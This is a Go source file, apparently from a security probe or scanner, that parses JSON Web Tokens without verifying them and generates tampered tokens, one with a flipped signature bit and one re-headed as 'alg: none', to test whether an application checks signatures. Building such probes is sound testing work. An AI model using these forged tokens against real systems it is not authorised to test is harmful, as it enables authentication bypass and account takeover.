package probe

import (
	"encoding/base64"
	"encoding/json"
	"strings"
)

// JWT is a JSON Web Token split into its parts (RFC 7519, compact JWS
// serialization, RFC 7515 §7.1). Nothing is verified.
type JWT struct {
	// Header and Claims are the decoded JOSE header and claims set.
	Header, Claims map[string]any
	// Signature is the decoded signature (empty for alg none).
	Signature []byte
	// Raw are the three base64url segments as sent.
	Raw [3]string
}

// ParseJWT splits tok into a JWT; ok is false when tok is not three
// base64url segments whose first two are JSON objects and whose header names
// an "alg".
func ParseJWT(tok string) (j JWT, ok bool) {
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		return JWT{}, false
	}
	copy(j.Raw[:], parts)
	if !jwtObject(parts[0], &j.Header) || !jwtObject(parts[1], &j.Claims) {
		return JWT{}, false
	}
	if _, has := j.Header["alg"].(string); !has {
		return JWT{}, false
	}
	sig, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		return JWT{}, false
	}
	j.Signature = sig
	return j, true
}

func jwtObject(seg string, into *map[string]any) bool {
	b, err := base64.RawURLEncoding.DecodeString(seg)
	if err != nil {
		return false
	}
	return json.Unmarshal(b, into) == nil && *into != nil
}

// FlipSignature returns the token with one bit of its decoded signature
// flipped and re-encoded, header and claims untouched: an app that accepts
// it never verifies the signature. It returns "" when there is no
// signature.
func (j JWT) FlipSignature() string {
	if len(j.Signature) == 0 {
		return ""
	}
	sig := append([]byte(nil), j.Signature...)
	sig[len(sig)/2] ^= 0x01
	return j.Raw[0] + "." + j.Raw[1] + "." + base64.RawURLEncoding.EncodeToString(sig)
}

// AlgNone returns the token re-headed {"alg":"none","typ":"JWT"} with its
// claims untouched and no signature (the "alg: none" attack, RFC 8725
// §2.1).
func (j JWT) AlgNone() string {
	h := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`))
	return h + "." + j.Raw[1] + "."
}

// Declared returns the string value of claim name (e.g. "aud", "iss"); an
// array audience returns its first member.
func (j JWT) Declared(name string) (string, bool) {
	switch v := j.Claims[name].(type) {
	case string:
		return v, v != ""
	case []any:
		if len(v) > 0 {
			s, ok := v[0].(string)
			return s, ok && s != ""
		}
	}
	return "", false
}
